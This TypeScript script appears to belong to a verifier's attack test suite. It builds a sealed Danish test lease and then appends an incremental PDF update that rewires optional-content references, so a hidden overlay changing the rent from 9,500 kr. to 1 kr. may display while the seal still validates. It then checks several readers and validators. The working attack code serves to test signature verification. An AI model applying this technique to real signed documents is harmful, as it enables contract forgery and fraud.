// a18: a17 M1's route (450abaf) through a form XObject's /OC and an OCMD's /OCGs. The sealed page shows "Husleje:
// 9.500 kr." and draws form XObject /X1 (a white box over it and "Husleje: 1 kr.") under optional content that is off:
// /OC names group B directly (xobj-*) or an OCMD whose /OCGs is [B] (ocmd-*), and /OFF [B]. One later revision, no key:
//   direct: B moves to B' in /OCGs, /Order, /OFF, and the XObject's /OC (or the OCMD's /OCGs) gets a direct copy of B;
//   move:   B moves to B' everywhere (a genuine renaming: every reader still hides /X1; should stay TOTAL-PASSED).
//   npx tsx scripts/attack-s13/oc-routes.ts <honest|ocmd-direct|ocmd-move|xobj-direct|xobj-move>
import { PDFArray, PDFDict, PDFDocument, PDFName, PDFRawStream, PDFRef, PDFString, StandardFonts } from "pdf-lib";
import { pki, save, show, tool, verify, work } from "../attack36/lib.js";
import { buildWorkflowEvidence, createWorkflowToken, evidenceAttachments } from "../generator/index.js";
import { mkdirSync, writeFileSync } from "node:fs";
import { appendIncrementalUpdate, loadForUpdate } from "../generator/incremental.js";
import { locateSignature, preparePades, sealPrepared } from "../generator/pdf.js";
import { pdfiumAndPdfjs, renderPage1 } from "../attack-s11/lib.js";

const mode = process.argv[2] ?? "ocmd-direct";
const MODES = ["honest", "ocmd-direct", "ocmd-move", "xobj-direct", "xobj-move"];
if (!MODES.includes(mode)) throw new Error(`mode: ${MODES.join("|")}, not ${mode}`);
const viaOcmd = mode.startsWith("ocmd") || mode === "honest";

/** The original: the rent, and form XObject /X1 over it under optional content that is off. */
async function ocOriginal(): Promise<Uint8Array> {
  const doc = await PDFDocument.create({ updateMetadata: false });
  const ctx = doc.context;
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage([595, 842]);
  const b = ctx.register(ctx.obj({ Type: "OCG", Name: PDFString.of("Tillaeg") }));
  const oc = viaOcmd ? ctx.register(ctx.obj({ Type: "OCMD", OCGs: [b], P: "AnyOn" })) : b;
  const x1 = ctx.register(
    ctx.flateStream("1 g 55 645 320 20 re f 0 g BT /F1 12 Tf 60 650 Td (Husleje: 1 kr. pr. maaned) Tj ET", {
      Type: "XObject",
      Subtype: "Form",
      BBox: [0, 0, 595, 842],
      Resources: { Font: { F1: font.ref } },
      OC: oc,
    }),
  );
  const lines = ["Lejekontrakt", "", "Udlejer: Sealcheck Test Ejendomme ApS", "Lejer: Karen Test Jensen og Lars Test Nielsen"];
  const ops = [
    ...lines.map((l, i) => `BT /F1 ${i === 0 ? 20 : 12} Tf 60 ${760 - i * 22} Td (${l}) Tj ET`),
    "BT /F1 12 Tf 60 650 Td (Husleje: 9.500 kr. pr. maaned) Tj ET",
    "/X1 Do",
    "BT /F1 12 Tf 60 606 Td ((Testdokument - ikke gyldigt)) Tj ET",
  ];
  page.node.set(PDFName.of("Contents"), ctx.register(ctx.flateStream(ops.join("\n"))));
  page.node.set(PDFName.of("Resources"), ctx.obj({ Font: { F1: font.ref }, XObject: { X1: x1 } }));
  doc.catalog.set(PDFName.of("OCProperties"), ctx.obj({ OCGs: [b], D: { Order: [b], OFF: [b] } }));
  return doc.save({ useObjectStreams: false });
}

const P = pki();
const base = await buildWorkflowEvidence({ pki: P });
const original = await ocOriginal();
// The workflow's documents: the initiator's original with the two groups, and the sample's Husorden. The token (its
// PAdES copy) covers their SHA-256 as the broker's does; the originals folder written beside the archive holds them.
const documents = [{ title: "Lejekontrakt", bytes: original }, ...base.originals.slice(1).map((o) => ({ title: o.title, bytes: o.bytes }))];
const e = { ...base, padesToken: await createWorkflowToken({ signer: P.tokenSigner, documents, personalData: false }) };
const prepared = await preparePades({ originals: documents.map((d) => d.bytes), attachments: evidenceAttachments(e) });
// The broker's writer (iText 7) carries an original's optional content into the merged document; pdf-lib's
// copyPages keeps the page's /Properties but not the catalog's /OCProperties, so it is put back before sealing.
const pre = await loadForUpdate(prepared.bytes);
const x1Ref = pre.getPage(0).node.lookup(PDFName.of("Resources"), PDFDict).lookup(PDFName.of("XObject"), PDFDict).get(PDFName.of("X1")) as PDFRef;
const ocRef = (pre.context.lookup(x1Ref) as PDFRawStream).dict.get(PDFName.of("OC")) as PDFRef;
const B = viaOcmd ? ((pre.context.lookup(ocRef) as PDFDict).lookup(PDFName.of("OCGs"), PDFArray).get(0) as PDFRef) : ocRef;
const groups = [B];
const catalog0 = pre.catalog.clone(pre.context);
catalog0.set(PDFName.of("OCProperties"), pre.context.obj({ OCGs: groups, D: { Order: groups, OFF: [B] } }));
const rootRef = pre.context.trailerInfo.Root as PDFRef;
// The signature dictionary (placeholders) is written anew in that update, under a new number that the widget and
// /Perms name: a seal covers the revision that first defines it (the broker's file is one revision).
const sigDict = pre.context.lookup(PDFRef.of(prepared.sigObject)) as PDFDict;
const sigRef = pre.context.nextRef();
const widgetRef = pre.getPage(0).node.lookup(PDFName.of("Annots"), PDFArray).get(0) as PDFRef;
const widget = (pre.context.lookup(widgetRef) as PDFDict).clone(pre.context);
widget.set(PDFName.of("V"), sigRef);
catalog0.set(PDFName.of("Perms"), pre.context.obj({ DocMDP: sigRef }));
const withOc = appendIncrementalUpdate(prepared.bytes, {
  objects: [
    { num: rootRef.objectNumber, body: catalog0 },
    { num: widgetRef.objectNumber, body: widget },
    { num: sigRef.objectNumber, body: sigDict },
  ].sort((x, y) => x.num - y.num),
}).bytes;
const sealed = sealPrepared(locateSignature(withOc, sigRef.objectNumber), P);

let out = sealed;
if (mode !== "honest") {
  const doc = await loadForUpdate(sealed);
  const ctx = doc.context;
  const objects: { num: number; body: PDFDict | PDFRawStream }[] = [];
  const directB = () => (ctx.lookup(B) as PDFDict).clone(ctx);
  // B moves to B' (a new object with B's content) wherever the catalog lists it: B is no longer reached.
  const moved = ctx.register(directB());
  objects.push({ num: moved.objectNumber, body: ctx.lookup(moved) as PDFDict });
  const c = doc.catalog.clone(ctx);
  c.set(PDFName.of("OCProperties"), ctx.obj({ OCGs: [moved], D: { Order: [moved], OFF: [moved] } }));
  objects.push({ num: (ctx.trailerInfo.Root as PDFRef).objectNumber, body: c });
  const target = mode.endsWith("direct") ? directB() : moved;
  if (viaOcmd) {
    const m = (ctx.lookup(ocRef) as PDFDict).clone(ctx);
    m.set(PDFName.of("OCGs"), ctx.obj([target]));
    objects.push({ num: ocRef.objectNumber, body: m });
  } else {
    const s = ctx.lookup(x1Ref) as PDFRawStream;
    const d = s.dict.clone(ctx);
    d.set(PDFName.of("OC"), target);
    objects.push({ num: x1Ref.objectNumber, body: PDFRawStream.of(d, s.contents) });
  }
  out = appendIncrementalUpdate(sealed, { objects: objects.sort((x, y) => x.num - y.num) }).bytes;
}

const dir = work(`s13-oc-${mode}`);
const file = save(dir, "archive.pdf", out);
console.log(`wrote ${file} (${mode}); sealed revision ends at ${sealed.length}, file ${out.length} bytes`);
const originals = `${dir}/originals`;
mkdirSync(originals);
for (const d of documents) writeFileSync(`${originals}/${d.title}.pdf`, d.bytes);
const v = verify(file, [], originals);
show(mode, v);
for (const c of v.report.checks.filter((c) => c.id === "document-digests")) console.log(`   ${c.id} ${c.status}: ${c.message.slice(0, 200)}`);
const m = v.report.checks.find((c) => c.id === "seal-modifications");
console.log(`   seal-modifications ${m?.status}: ${m?.message.slice(0, 300)}`);
const sig = tool("pdfsig", [file])
  .split("\n")
  .filter((l) => /Signature #|Validation|Total document/.test(l));
console.log(`== pdfsig: ${sig.join(" | ")}`);
const rent = (t: string) =>
  t
    .split("\n")
    .filter((l) => /Husleje/.test(l))
    .map((l) => l.trim())
    .join(" / ") || "(no rent line)";
console.log(`== pdftotext page 1: ${rent(tool("pdftotext", ["-f", "1", "-l", "1", "-layout", file, "-"]))}`);
console.log(`== qpdf --check: ${tool("qpdf", ["--check", file]).split("\n").slice(-1)[0]}`);
for (const l of pdfiumAndPdfjs(file, 400).filter((x) => /PDFium|pdf.js|p1:|not run/.test(x))) console.log(`== ${l.trim().slice(0, 260)}`);
console.log(`   page 1 rendered by PDFium and pdf.js: ${renderPage1(file, `${dir}/page1`)}`);
tool("pdftoppm", ["-f", "1", "-l", "1", "-r", "50", "-png", file, `${dir}/page`]);
console.log(`   page 1 rendered by pdftoppm: ${dir}/page-1.png`);
const orig = `${originals}/Lejekontrakt.pdf`;
console.log(`== the original as signed (${orig}), pdftotext: ${rent(tool("pdftotext", ["-layout", orig, "-"]))}`);
